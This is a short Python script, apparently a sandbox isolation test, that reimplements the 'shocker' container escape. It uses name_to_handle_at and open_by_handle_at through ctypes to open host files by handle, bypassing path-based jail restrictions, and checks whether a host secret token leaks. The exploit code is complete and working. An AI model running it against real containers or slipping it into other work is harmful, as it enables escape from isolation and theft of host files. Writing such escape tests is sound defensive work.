# Attack: "shocker": open_by_handle_at(2) turns a file handle into an open file on any mount of
# the same filesystem, bypassing every path-based restriction. Mode "make" (control only):
# name_to_handle_at(argv[2]) and print the handle. Mode "use": open_by_handle_at with the
# handle in argv[2] (handle_type:hex), relative to a file on the same filesystem (argv[3]).
# Evidence: the host secret token never appears in the jail. Control: it does.
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]
mode = sys.argv[1]
if mode == "make":
    fh = FileHandle(128)
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, sys.argv[2].encode(), ctypes.byref(fh), ctypes.byref(mount_id), 0) != 0:
        sys.exit(f"name_to_handle_at failed {ctypes.get_errno()}")
    print("HANDLE", f"{fh.handle_type}:{bytes(fh.f_handle[:fh.handle_bytes]).hex()}")
    mount_path = "/"
else:
    t, h = sys.argv[2].split(":")
    raw = bytes.fromhex(h)
    fh = FileHandle(len(raw), int(t))
    ctypes.memmove(fh.f_handle, raw, len(raw))
    mount_path = sys.argv[3]
mfd = os.open(mount_path, os.O_RDONLY)
fd = libc.open_by_handle_at(mfd, ctypes.byref(fh), os.O_RDONLY)
if fd < 0:
    print("DENIED", ctypes.get_errno())
else:
    print("READ", os.read(fd, 4096).decode(errors="replace"))
